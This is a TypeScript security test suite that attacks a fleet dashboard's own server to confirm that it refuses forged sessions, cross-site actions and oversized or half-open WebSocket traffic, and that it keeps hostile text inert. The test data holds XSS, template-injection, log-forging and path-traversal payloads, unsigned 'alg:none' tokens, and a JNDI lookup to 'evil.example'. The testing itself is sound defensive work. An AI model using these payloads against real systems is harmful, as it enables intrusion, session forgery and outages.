/**
 * Attacks on the production server from outside, each named. What is tried is generated from the build wherever that is
 * possible: a page, route or action that is added later is attacked without anybody thinking of it.
 */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { WebSocket } from 'ws';
import { AGENT_TOKEN, type Dashboard } from './support/dashboard';
import { expect, test } from './support/fixtures';
import { CONFIGURED, openConfigured, signInConfigured } from './support/operator';
import { allActions, allRoutes } from './support/surface';
import { refusalOf } from '@/lib/protocol/http/request-refusals';

/** What strangers may ask for. Whoever adds to these lists decides it. */
const PUBLIC_PAGES = ['/login', '/setup'];
const PUBLIC_ROUTES = ['/api/auth/anything', '/icon.svg'];
const PUBLIC_ACTIONS = ['app/(auth)/setup/actions.ts completeSetup'];

const SESSION_COOKIE = 'nixfleet.session';
const UNSIGNED = ['{"alg":"none"}', '{"sub":"operator"}']
  .map((part) => Buffer.from(part).toString('base64url'))
  .join('.');
const FORGED_COOKIES = {
  'no cookie': '',
  'a made-up session': `${SESSION_COOKIE}=0123456789abcdef0123456789abcdef`,
  'an unsigned token': `${SESSION_COOKIE}=${UNSIGNED}.`,
  'an encrypted token of somebody else': `${SESSION_COOKIE}=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA`,
  'names of earlier dashboards':
    'nixfleet_session=v1.eyJ2IjoxfQ.AAAA; next-auth.session-token=x; __Secure-next-auth.session-token=x; __Host-nixfleet.session=x',
};

test('requests without a session reach no page and no route', async ({ world }) => {
  const dashboard = world.makeDashboard();
  await dashboard.start();
  const routes = allRoutes();
  expect(routes.length).toBeGreaterThan(8);
  for (const [what, cookie] of Object.entries(FORGED_COOKIES)) {
    for (const { path, kind } of routes) {
      const response = await fetch(`${dashboard.url}${path}`, { redirect: 'manual', headers: { cookie } });
      const text = await response.text();
      const told = `${path} with ${what}: ${response.status} ${text.slice(0, 200)}`;
      if (PUBLIC_PAGES.includes(path) || PUBLIC_ROUTES.includes(path)) continue;
      if (kind === 'page') {
        expect([response.status, response.headers.get('location')], told).toEqual([307, '/login']);
      } else {
        expect(response.status, told).toBe(401);
      }
      // Neither the fleet nor anything of it comes with the refusal.
      expect(text, told).not.toMatch(/"hosts"|data-testid="host-row"/);
    }
  }
});

test('requests without a session run no action', async ({ world }) => {
  const dashboard = world.makeDashboard();
  await dashboard.start();
  const actions = allActions();
  expect(actions.length).toBeGreaterThan(4);
  for (const [what, cookie] of Object.entries(FORGED_COOKIES)) {
    for (const { id, name, path } of actions) {
      const response = await fetch(`${dashboard.url}${path}`, {
        method: 'POST',
        redirect: 'manual',
        headers: {
          cookie,
          origin: dashboard.url,
          'next-action': id,
          accept: 'text/x-component',
          'content-type': 'text/plain;charset=UTF-8',
        },
        body: '[{}]',
      });
      const text = await response.text();
      const told = `${name} with ${what}: ${response.status} ${text.slice(0, 400)}`;
      if (PUBLIC_ACTIONS.includes(name)) expect(text, told).toContain('"ok":false');
      else expect([response.status, text], told).toEqual([401, refusalOf('signed-out').sentence]);
    }
  }
  // The lists of what is public name nothing that is no longer there.
  expect(PUBLIC_ACTIONS.filter((name) => !actions.some((action) => action.name === name))).toEqual([]);
});

test('an action sent by another site is refused before it runs', async ({ page, world }) => {
  const dashboard = await openConfigured(page, world);
  const cookie = (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
  const action = allActions().find(({ name }) => name.endsWith(' dispatchOperation'));
  expect(action).toBeDefined();
  for (const origin of ['https://evil.example', 'null', `${dashboard.url}.evil.example`]) {
    const response = await fetch(`${dashboard.url}/`, {
      method: 'POST',
      headers: { cookie, origin, 'next-action': action?.id ?? '', 'content-type': 'text/plain;charset=UTF-8' },
      body: '[{}]',
    });
    expect(response.ok, `${origin}: ${response.status}`).toBe(false);
  }
  const live = async (origin?: string) => {
    const socket = new WebSocket(`${dashboard.url.replace('http', 'ws')}/live`, {
      headers: { cookie, ...(origin === undefined ? {} : { origin }) },
    });
    socket.on('error', () => undefined);
    const opened = once(socket, 'open').then(() => 'open');
    const refused = once(socket, 'unexpected-response').then(
      (args) => (args as [unknown, { statusCode: number }])[1].statusCode,
    );
    const result = await Promise.race([opened, refused]);
    socket.terminate();
    return result;
  };
  expect(await live('https://evil.example')).toBe(403);
  expect(await live()).toBe(403);
  expect(await live(dashboard.url)).toBe('open');
});

const HOSTILE_STRINGS = [
  '<script>window.attacked = true</script>',
  '<img src=x onerror="window.attacked = true">',
  '"><svg onload=window.attacked=true>',
  "');window.attacked=true;//",
  'javascript:window.attacked=true',
  '{{constructor.constructor("window.attacked=true")()}}',
  '../../../../tmp/attacked',
  '\u001b]0;attacked\u0007\u001b[2J\u001b[31mred',
  'first line\nSep 01 00:00:00 forged: a line of the log\r\n',
  '\u202egnp.exe\u0000',
  '%n%s%x${jndi:ldap://evil.example/a}',
];

test('text from agents stays text in the page, in the log and on the terminal', async ({ page, world }) => {
  const dashboard = world.makeDashboard({ ...CONFIGURED, NIXFLEET_LOG_LEVEL: 'debug' });
  await dashboard.start();
  await signInConfigured(page, dashboard.url);
  const agents = await Promise.all(
    HOSTILE_STRINGS.map(async (text, index) => {
      const agent = await openAgent(dashboard);
      agent.send({
        type: 'register',
        payload: {
          hostname: `h${index}`,
          host_type: text,
          agent_version: text,
          os_version: text,
          nixpkgs_version: text,
          generation: text,
          theme_color: text,
          heartbeat_interval: 5,
          location: text,
          device_type: text,
          repo_url: text,
          repo_dir: text,
          source_commit: text,
          store_path: text,
          binary_hash: text,
        },
      });
      await agent.message();
      agent.send({
        type: 'heartbeat',
        payload: {
          generation: text,
          nixpkgs_version: text,
          pending_command: text,
          command_pid: 1,
          metrics: { cpu: 1, ram: 2, swap: 3, load: 4 },
          update_status: Object.fromEntries(
            ['git', 'lock', 'system', 'tests'].map((name) => [
              name,
              { status: 'error', message: text, checked_at: text },
            ]),
          ),
          lock_hash: text,
        },
      });
      agent.send({ type: 'output', payload: { line: text, stream: 'stdout' } });
      agent.send({ type: 'command_rejected', payload: { reason: text, current_command: text } });
      agent.send({ type: text, payload: text });
      return agent;
    }),
  );
  // Names that are no host names are held and shown with their reason, as text.
  const held = await openAgent(dashboard);
  held.send({ type: 'register', payload: { hostname: HOSTILE_STRINGS[0] } });

  await page.goto(dashboard.url);
  for (const index of HOSTILE_STRINGS.keys()) {
    await expect(page.locator(`[data-testid="host-row"][data-host="h${index}"]`)).toBeVisible();
  }
  await page.goto(`${dashboard.url}/activity`);
  await expect(page.getByText('connected for the first time').first()).toBeVisible();
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  expect(await page.locator('svg[onload], img[onerror], a[href^="javascript:" i]').count()).toBe(0);

  for (const agent of [...agents, held]) agent.socket.terminate();
  await dashboard.end();
  for (const line of dashboard.lines) {
    expect(line, 'a line of the log').not.toMatch(/\p{Cc}/u);
    expect(line).not.toMatch(/^(Sep 01|first line)/);
  }
});

test('frames that are too large or never end close only their own connection', async ({ world }) => {
  const dashboard = world.makeDashboard();
  await dashboard.start();
  const good = await openAgent(dashboard);
  good.send({ type: 'register', payload: { hostname: 'good' } });
  await good.message();

  const large = await openAgent(dashboard);
  const closed = once(large.socket, 'close');
  large.socket.send(`{"type":"output","payload":{"line":"${'x'.repeat(2 * 1024 * 1024)}"}}`);
  expect([1006, 1009]).toContain((await closed)[0]);

  // A message in pieces that never says that it ends: refused once it is longer than a frame may be.
  const endless = await openAgent(dashboard);
  const ended = once(endless.socket, 'close');
  const piece = 'x'.repeat(64 * 1024);
  for (let sent = 0; sent < 64 && endless.socket.readyState === WebSocket.OPEN; sent += 1) {
    await new Promise((resolve) => endless.socket.send(piece, { fin: false }, resolve));
  }
  // A client that continues to send is cut off, possibly before it can read why.
  expect([1006, 1009]).toContain((await ended)[0]);

  const answered = once(good.socket, 'pong');
  good.socket.ping();
  await answered;
  good.socket.terminate();
});

test('a thousand half-open upgrades are dropped and block nobody', async ({ world }) => {
  const dashboard = world.makeDashboard();
  await dashboard.start();
  const port = Number(new URL(dashboard.url).port);
  const sockets = await Promise.all(
    Array.from({ length: 1_000 }, async (_, index) => {
      const socket: Socket = connect(port, '127.0.0.1');
      socket.on('error', () => undefined);
      await once(socket, 'connect');
      // Half of them stop in the middle of the headers, half right after the upgrade was asked for without a token.
      const head = `GET /${index % 2 === 0 ? 'ws' : 'live'} HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n`;
      socket.write(index % 4 < 2 ? head : `${head}Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\r\n`);
      return socket;
    }),
  );
  expect((await fetch(`${dashboard.url}/health`)).status).toBe(200);
  expect((await fetch(`${dashboard.url}/login`)).status).toBe(200);
  const agent = await openAgent(dashboard);
  agent.send({ type: 'register', payload: { hostname: 'good' } });
  await agent.message();
  // Every one of them is ended by the server: at once where it was refused, and by the time limit where it says nothing more.
  await Promise.all(
    sockets.map(async (socket) => {
      socket.resume();
      if (!socket.destroyed) await once(socket, 'close');
    }),
  );
  expect((await fetch(`${dashboard.url}/health`)).status).toBe(200);
  agent.socket.terminate();
});

interface ScriptedAgent {
  socket: WebSocket;
  send(frame: unknown): void;
  /** The next frame from the dashboard. */
  message(): Promise<unknown>;
}

async function openAgent(dashboard: Dashboard): Promise<ScriptedAgent> {
  const socket = new WebSocket(dashboard.agentUrl, { headers: { authorization: `Bearer ${AGENT_TOKEN}` } });
  socket.on('error', () => undefined);
  await once(socket, 'open');
  return {
    socket,
    send: (frame) => socket.send(JSON.stringify(frame)),
    message: () => once(socket, 'message'),
  };
}
